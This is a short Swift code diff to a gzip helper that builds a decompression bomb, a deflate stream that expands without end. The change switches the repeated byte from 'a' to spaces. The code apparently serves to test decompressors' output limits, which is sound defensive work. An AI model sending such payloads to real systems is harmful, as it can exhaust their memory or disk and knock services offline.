@@ -17,16 +17,16 @@ public enum Gzip {
     return bytes + littleEndian(crc32(content), 4) + littleEndian(UInt32(truncatingIfNeeded: content.count), 4)
   }
 
-  /// The start of a member that unfolds to the letter a without end, 258 bytes for 2 bits: a bomb.
+  /// The start of a member that unfolds to spaces without end, 258 bytes for 2 bits: a bomb.
   public static func bomb(compressedBytes: Int) -> [UInt8] {
     header + endlessDeflate(compressedBytes)
   }
 
-  /// The start of a deflate stream that unfolds to the letter a without end.
+  /// The start of a deflate stream that unfolds to spaces without end.
   static func endlessDeflate(_ compressedBytes: Int) -> [UInt8] {
-    // A block of fixed codes: literal a (10010001), then the longest match (11000101) at distance 1 (00000) for ever.
+    // A block of fixed codes: a space (01010000), then the longest match (11000101) at distance 1 (00000) for ever.
     // Eight matches are 13 bytes, so the bytes repeat.
-    var bits: [UInt8] = [1, 1, 0] + [1, 0, 0, 1, 0, 0, 0, 1]
+    var bits: [UInt8] = [1, 1, 0] + [0, 1, 0, 1, 0, 0, 0, 0]
     while bits.count < 8 * 28 { bits += [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0] }
     let bytes = stride(from: 0, to: 8 * 28, by: 8).map { start in
       (0..<8).reduce(UInt8(0)) { $0 | bits[start + $1] << UInt8($1) }
